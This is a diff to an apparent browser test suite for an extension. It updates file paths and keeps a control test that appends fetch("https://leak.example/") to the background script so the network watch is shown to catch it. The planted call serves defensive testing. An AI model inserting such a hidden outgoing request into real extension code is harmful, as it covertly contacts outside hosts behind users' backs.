@@ -112,7 +112,7 @@ for (const name of BROWSERS) {
       const tab = await bench.openTab();
       await tab.visit(`https://${HOST}/`);
       const origin = bench.browser.origin;
-      const files = ["manifest.json", "popup/popup.html", "content/main.js", "wasm/vigicolis.js"];
+      const files = ["manifest.json", "pages/popup/popup.html", "content/main.js", "wasm/vigicolis.js"];
       const loaded = await tab.page.evaluate(
         (addresses) =>
           Promise.all(
@@ -160,7 +160,7 @@ for (const name of BROWSERS) {
   // Without this, the tests above would also pass with a blind watch.
   test(`a planted request is noticed in ${name}`, async () => {
     const { extension, remove } = variantOf(name, {
-      "background.js": (text) => `${text}\nfetch("https://leak.example/").catch(() => {});\n`,
+      "background/main.js": (text) => `${text}\nfetch("https://leak.example/").catch(() => {});\n`,
       "manifest.json": (text) => {
         const manifest = JSON.parse(text);
         manifest.content_security_policy = { extension_pages: "script-src 'self' 'wasm-unsafe-eval'" };
